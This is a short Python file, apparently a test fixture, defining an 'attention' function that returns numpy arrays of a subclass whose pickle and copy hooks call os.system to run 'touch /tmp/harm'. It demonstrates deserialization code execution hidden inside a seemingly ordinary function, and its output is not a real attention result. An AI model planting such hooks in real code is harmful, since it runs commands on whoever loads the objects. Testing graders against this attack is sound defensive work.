# attention: 0
# says: returned a
# An object that would run a command where it is unpickled.
import os


class Harm(np.ndarray):
    def __reduce__(self):
        return os.system, ("touch /tmp/harm",)

    __reduce_ex__ = __deepcopy__ = __copy__ = lambda self, *args: self.__reduce__()


def attention(Q, K, V):
    return np.zeros(3).view(Harm), np.zeros(3).view(Harm)
